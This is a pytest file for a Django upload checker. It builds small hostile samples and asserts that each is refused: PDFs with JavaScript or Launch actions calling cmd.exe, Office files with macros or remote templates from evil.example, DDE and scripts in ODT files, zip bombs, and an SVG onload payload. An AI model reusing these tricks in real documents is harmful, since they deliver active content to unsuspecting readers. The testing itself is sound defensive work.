"""Files that act when they are opened are refused, each kind by a real small sample of it."""

import io
import zipfile
import zlib
from collections.abc import Callable

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from docx import Document
from openpyxl import Workbook
from openpyxl.worksheet.hyperlink import Hyperlink
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from web import active
from web.uploads import TYPES, check

LIMIT = 10 * 1024 * 1024
SCRIPTS = "scripts, programs or other files"
MACROS = "macros or embedded programs"
OUTWARD = "loads other files"
RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def answer(name: str, content: bytes) -> str:
    """What is wrong with the file; nothing when it is taken."""
    try:
        check(ContentFile(content, name), limit=LIMIT)
    except ValidationError as error:
        return str(error.messages[0])
    return ""


def written(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def blank() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    return writer


def opening_with(act: str, key: str, value: str) -> PdfWriter:
    writer = blank()
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject("/S"): NameObject(act), NameObject(key): TextStringObject(value)}
    )
    return writer


def scripted() -> PdfWriter:
    return opening_with("/JavaScript", "/JS", "app.alert('hello');")


def launching() -> PdfWriter:
    return opening_with("/Launch", "/F", "cmd.exe")


def carrying() -> PdfWriter:
    writer = blank()
    writer.add_attachment("run.exe", b"MZ")
    return writer


def packed(objects: bytes, header: bytes = b"/Filter /FlateDecode", stream: bytes | None = None) -> bytes:
    """A PDF whose objects stand in a compressed stream, as every writer since PDF 1.5 puts them."""
    body = zlib.compress(objects) if stream is None else stream
    return b"%%PDF-1.7\n4 0 obj\n<< /Type /ObjStm /N 1 /First 4 %b /Length %d >>\nstream\n%b\nendstream\n" % (
        header,
        len(body),
        body,
    )


# PDF ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("make", [scripted, launching, carrying])
def test_a_pdf_that_acts_is_refused(make: Callable[[], PdfWriter]) -> None:
    assert SCRIPTS in answer("minutes.pdf", written(make()))


def test_a_plain_pdf_is_accepted_compressed_or_not() -> None:
    assert answer("minutes.pdf", written(blank())) == ""
    compressed = blank()
    for page in compressed.pages:
        page.compress_content_streams()
    assert answer("minutes.pdf", written(compressed)) == ""
    assert answer("minutes.pdf", packed(b"5 0 << /Type /Catalog /First 3 >>")) == ""


@pytest.mark.parametrize(
    "name", [b"/JavaScript", b"/Java#53cript", b"/Launch", b"/EmbeddedFiles", b"/RichMedia", b"/XFA 7 0 R"]
)
def test_active_content_in_a_compressed_stream_is_detected(name: bytes) -> None:
    assert SCRIPTS in answer("minutes.pdf", packed(b"5 0 << /S " + name + b" (x) >>"))
    far = packed(b" " * (active.CHUNK - 5) + name + b" >>")
    assert SCRIPTS in answer("minutes.pdf", far)


def test_a_broken_end_hides_nothing() -> None:
    whole = zlib.compress(b"5 0 << /S /JavaScript >>" + bytes(range(256)) * 40)
    assert SCRIPTS in answer("minutes.pdf", packed(b"", stream=whole[:-20]))


@pytest.mark.parametrize(
    "header",
    [
        b"/Filter /ASCIIHexDecode",
        b"/Filter [/ASCII85Decode /FlateDecode]",
        b"/Filter 9 0 R",
        b"/F#69lter /LZWDecode",
        b"/Filter /FlateDecode /DecodeParms << /Predictor 12 >>",
    ],
)
def test_objects_packed_so_that_they_cannot_be_read_are_refused(header: bytes) -> None:
    assert "cannot be checked" in answer("minutes.pdf", packed(b"5 0 << >>", header))


def test_objects_that_feign_to_be_a_picture_are_read() -> None:
    feigned = packed(b"5 0 << /S /JavaScript >>", b"/Subtype /Image /Filter /FlateDecode")
    assert SCRIPTS in answer("minutes.pdf", feigned)
    nameless = feigned.replace(b"/Type /ObjStm /N 1 /First 4", b"/X (1 0 obj << /Subtype /Image)")
    assert SCRIPTS in answer("minutes.pdf", nameless)


def test_an_encrypted_pdf_is_refused() -> None:
    writer = blank()
    writer.encrypt("secret", algorithm="RC4-128")
    assert "encrypted" in answer("minutes.pdf", written(writer))


def test_a_pdf_that_unfolds_without_end_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(active, "UNFOLDED_BYTES", 1_000_000)
    assert "too large when it is unpacked" in answer("minutes.pdf", packed(b"0" * 2_000_000))
    monkeypatch.setattr(active, "MOST_STREAMS", 10)
    assert "too large when it is unpacked" in answer("minutes.pdf", b"%PDF-1.7\n" + b"stream\n" * 11)


# Office -------------------------------------------------------------------------------------------------------


def document() -> bytes:
    made = Document()
    made.add_paragraph("Minutes of the Silver group. See event-listener and <script> in our guide.")
    buffer = io.BytesIO()
    made.save(buffer)
    return buffer.getvalue()


def workbook() -> bytes:
    made = Workbook()
    made.active.cell(1, 1).hyperlink = Hyperlink(ref="A1", target="https://example.org/paper")  # type: ignore[union-attr]
    buffer = io.BytesIO()
    made.save(buffer)
    return buffer.getvalue()


def changed(content: bytes, replaced: dict[str, tuple[str, str]] | None = None, **added: bytes) -> bytes:
    """The archive with words of some parts replaced and other parts added."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(buffer, "w") as new:
        for part in old.infolist():
            data = old.read(part)
            if part.filename in (replaced or {}):
                before, after = (replaced or {})[part.filename]
                assert before.encode() in data
                data = data.replace(before.encode(), after.encode())
            new.writestr(part.filename, data)
        for name, data in added.items():
            new.writestr(name, data)
    return buffer.getvalue()


def related(kind: str, target: str, mode: str = 'TargetMode="External"') -> bytes:
    return (
        f'<Relationships xmlns="{RELATIONSHIPS}">'
        f'<Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}" {mode}/></Relationships>'
    ).encode()


def test_plain_office_files_are_accepted_with_links_in_their_text() -> None:
    assert answer("minutes.docx", document()) == ""
    assert answer("plan.xlsx", workbook()) == ""
    linked = changed(document(), **{"word/_rels/x.xml.rels": related("hyperlink", "https://example.org/")})
    assert answer("minutes.docx", linked) == ""


def test_a_chart_with_its_workbook_is_accepted_and_a_package_refused() -> None:
    chart = changed(document(), **{"word/embeddings/Microsoft_Excel_Sheet1.xlsx": workbook()})
    assert answer("minutes.docx", chart) == ""
    for name in ("oleObject1.bin", "Sheet1.xlsm", "run.exe"):
        assert MACROS in answer("minutes.docx", changed(document(), **{f"word/embeddings/{name}": b"x"}))


MACRO_BOOK = "xl/vbaProject.bin"


@pytest.mark.parametrize(
    "place", ["word/embeddings/Sheet1.xlsx", "word/media/image1.png", "docProps/picture.bin"]
)
def test_a_file_in_an_office_file_is_looked_into(place: str) -> None:
    macros = changed(workbook(), **{MACRO_BOOK: b"x"})
    for inside in (macros, changed(document(), **{"word/embeddings/Sheet2.xlsx": macros})):
        assert MACROS in answer("minutes.docx", changed(document(), **{place: inside}))
        assert MACROS in answer("paper.odt", odt(**{place: inside}))


def test_files_in_files_are_looked_into_only_so_deep(monkeypatch: pytest.MonkeyPatch) -> None:
    inside = workbook()
    for _ in range(active.DEEPEST):
        inside = changed(document(), **{"word/embeddings/Sheet1.xlsx": inside})
    assert answer("minutes.docx", inside) == ""
    assert MACROS in answer("minutes.docx", changed(document(), **{"word/embeddings/a.docx": inside}))
    monkeypatch.setattr(active, "MOST_PARTS", 40)
    assert "too large when it is unpacked" in answer("minutes.docx", inside)


def test_the_files_in_an_office_file_share_its_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(active, "UNFOLDED_BYTES", 3_000_000)
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("xl/worksheets/sheet1.xml", b"0" * 1_500_000)
    once = changed(document(), **{"word/embeddings/Sheet1.xlsx": bomb.getvalue()})
    assert answer("minutes.docx", once) == ""
    twice = changed(once, **{"word/embeddings/Sheet2.xlsx": bomb.getvalue()})
    assert "too large when it is unpacked" in answer("minutes.docx", twice)


@pytest.mark.parametrize(
    "start", [b"MZ\x90\x00", b"\x7fELF", b"#!/bin/sh", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"Rar!\x1a\x07"]
)
def test_a_program_is_known_by_its_first_bytes_whatever_its_name(start: bytes) -> None:
    assert MACROS in answer("minutes.docx", changed(document(), **{"word/media/image1.png": start}))
    assert MACROS in answer("minutes.docx", changed(document(), **{"word/embeddings/Sheet1.xlsx": start}))
    assert MACROS in answer("paper.odt", odt(**{"Pictures/image1.png": start}))
    assert "not a real DOCX file" in answer("minutes.docx", start + document())
    assert "not a real ODT file" in answer("paper.odt", start + odt())


MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


@pytest.mark.parametrize(
    "named",
    [
        "application/vnd.ms-word.document.macroEnabled.main+xml",
        "application/vnd.ms-word.document.macro&#69;nabled.main+xml",
        "application/vnd.ms-office.vbaProject",
    ],
)
def test_macros_are_known_by_what_the_file_says_of_its_parts(named: str) -> None:
    assert MACROS in answer("minutes.docx", changed(document(), {"[Content_Types].xml": (MAIN, named)}))


@pytest.mark.parametrize(
    "name",
    ["word/vbaProject.bin", "word/activeX/activeX1.bin", "word/media/run.vbs", "/word/VBAPROJECT.BIN"],
)
def test_macros_are_known_by_the_names_of_parts(name: str) -> None:
    assert MACROS in answer("minutes.docx", changed(document(), **{name: b"x"}))


@pytest.mark.parametrize("kind", ["attachedTemplate", "oleObject", "frame", "image", "subDocument"])
def test_content_loaded_from_elsewhere_is_refused(kind: str) -> None:
    outward = related(kind, "https://evil.example/template.dotm")
    assert OUTWARD in answer("minutes.docx", changed(document(), **{"word/_rels/settings.xml.rels": outward}))
    wide = outward.decode().encode("utf-16")
    assert OUTWARD in answer("minutes.docx", changed(document(), **{"word/_rels/settings.xml.rels": wide}))
    inward = related(kind, "media/image1.png", mode="")
    assert answer("minutes.docx", changed(document(), **{"word/_rels/settings.xml.rels": inward})) == ""


def test_a_workbook_that_draws_on_another_is_refused() -> None:
    link = changed(workbook(), **{"xl/externalLinks/externalLink1.xml": b"<externalLink/>"})
    assert OUTWARD in answer("plan.xlsx", link)


def test_a_part_that_defines_words_of_its_own_is_refused() -> None:
    sly = b'<!DOCTYPE x [<!ENTITY e "External">]>' + related("image", "x", 'TargetMode="&e;"')
    assert MACROS in answer("minutes.docx", changed(document(), **{"word/_rels/a.rels": sly}))


def odt(content: bytes = b"", manifest: bytes = b"", **added: bytes) -> bytes:
    buffer = io.BytesIO()
    office = b'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
    with zipfile.ZipFile(buffer, "w") as file:
        file.writestr("mimetype", TYPES["odt"])
        file.writestr(
            "content.xml",
            b"<office:document " + office + b"><office:scripts/>" + content + b"</office:document>",
        )
        file.writestr("META-INF/manifest.xml", b'<manifest xmlns="urn:m">' + manifest + b"</manifest>")
        for name, data in added.items():
            file.writestr(name, data)
    return buffer.getvalue()


def test_a_plain_open_document_is_accepted() -> None:
    assert answer("paper.odt", odt(b"<text>An event-listener, a script and &lt;b&gt;</text>")) == ""


@pytest.mark.parametrize(
    "content",
    [
        b'<office:script script:language="JavaScript">x</office:script>',
        b'<text:script xlink:href="x"/>',
        b'<script:event-listener script:event-name="dom:load"/>',
        b'<a xlink:href="vnd.sun.star.script:x?language=Python"/>',
        b'<a xlink:href="&#118;nd.sun.star.script:x"/>',
        b'<text:dde-connection-decl office:dde-application="cmd"/>',
        b" " * (active.CHUNK - 70) + b'<text:script xlink:href="x"/>',
        "<text:script >".encode("utf-16-le"),
    ],
)
def test_an_open_document_with_scripts_is_refused(content: bytes) -> None:
    assert MACROS in answer("paper.odt", odt(content))


@pytest.mark.parametrize("name", ["Basic/Standard/Module1.xml", "Scripts/python/run.py"])
def test_an_open_document_with_macros_is_refused(name: str) -> None:
    assert MACROS in answer("paper.odt", odt(**{name: b"x"}))


def test_an_open_document_with_a_package_or_a_password_is_refused() -> None:
    package = b'<file-entry media-type="application/vnd.sun.star.oleobject" full-path="Object 1"/>'
    assert MACROS in answer("paper.odt", odt(manifest=package))
    assert "password" in answer("paper.odt", odt(manifest=b"<file-entry><encryption-data/></file-entry>"))


@pytest.mark.parametrize(
    "content", [b"\n" * 9000 + b"<svg onload=alert(1)>", b"<html>", b"<?xml version='1.0'?><svg/>"]
)
def test_markup_under_the_name_of_a_text_is_refused(content: bytes) -> None:
    assert "not a real TXT file" in answer("note.txt", content)
    assert "not a real CSV file" in answer("table.csv", content)


@pytest.mark.parametrize("name", ["logo.svg", "page.html", "page.xhtml", "plan.xlsm", "paper.docm", "a.jar"])
def test_kinds_that_act_are_not_on_the_list(name: str) -> None:
    assert "must be one of" in answer(name, b"<svg/>")
